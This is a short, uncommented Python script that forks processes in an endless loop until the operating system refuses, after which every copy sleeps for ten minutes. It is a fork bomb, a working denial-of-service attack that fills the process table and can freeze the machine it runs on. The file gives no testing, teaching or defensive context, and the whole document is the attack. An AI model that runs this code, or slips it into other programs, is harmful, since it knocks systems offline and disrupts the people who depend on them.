import os
import time

while True:
    try:
        os.fork()
    except OSError:
        break
time.sleep(600)
